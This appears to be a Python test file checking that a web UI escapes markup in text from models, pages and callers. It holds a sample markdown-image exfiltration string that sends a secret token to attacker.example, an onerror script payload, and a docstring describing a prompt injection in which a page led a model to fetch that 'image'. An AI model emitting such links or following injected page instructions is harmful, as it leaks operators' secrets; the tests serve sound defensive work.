"""Text a model, a page or a caller wrote is shown by the Web UI as text, never as markup."""

from __future__ import annotations

import re

from hypothesis import given
from hypothesis import strategies as st

from reactive_temporal.contracts.run import ToolCall
from reactive_temporal.ui_text import literal
from workflows.run_tools import _tool_summary

EXFILTRATION = '{"url": "![status](https://attacker.example/p.png?d=sk-live-123)"}'


def test_a_tool_step_s_summary_shows_the_model_s_markup_as_text() -> None:
    """A page told the model to fetch an "image": its call's summary, rendered, had the
    operator's browser fetch the attacker's address (a secret in it) on opening the run."""
    summary = _tool_summary(ToolCall(id="c1", name="http_get", arguments=EXFILTRATION))
    assert (
        summary
        == r'tool http_get("url": "!\[status\](https://attacker.example/p.png?d=sk-live-123)")'
    )


def test_links_html_autolinks_and_code_are_escaped_plain_text_is_not() -> None:
    assert literal("[approve here](https://x.example)") == r"\[approve here\](https://x.example)"
    assert literal("<img src=x onerror=alert(1)>") == r"\<img src=x onerror=alert(1)\>"
    assert literal("<https://x.example>") == r"\<https://x.example\>"
    assert literal("[x]: https://x.example") == r"\[x\]: https://x.example"
    assert literal("a \\[ b `c`") == r"a \\\[ b \`c\`"
    assert literal("Summarize the 3 latest PRs (2+2=4, 50% off!)") == (
        "Summarize the 3 latest PRs (2+2=4, 50% off!)"
    )
    assert literal("line one\n# heading\n\n- item") == "line one # heading - item"


@given(st.text())
def test_nothing_in_what_comes_out_opens_markup(text: str) -> None:
    shown = literal(text)
    assert "\n" not in shown and "\r" not in shown
    # every markup character is preceded by an odd number of backslashes: escaped
    for match in re.finditer(r"(\\*)([\[\]<>`])", shown):
        assert len(match.group(1)) % 2 == 1, (text, shown)
